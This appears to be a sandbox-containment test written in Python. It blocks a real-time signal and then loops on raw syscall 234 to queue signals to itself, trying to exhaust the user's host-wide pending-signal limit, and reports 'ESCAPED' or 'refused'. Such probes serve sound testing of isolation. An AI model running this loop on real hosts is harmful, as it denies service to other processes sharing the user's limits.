"""Queue signals to itself until the user, and so the host, may queue no more."""

_signal = sys.modules["_signal"]
number = 40
_signal.pthread_sigmask(_signal.SIG_BLOCK, {number})
thread = sys.modules["_thread"].get_native_id()
count = 0
while count < 20_000 and syscall(234, posix.getpid(), thread, number) == 0:
    count += 1
print("ESCAPED" if count > 1000 else "refused", count)
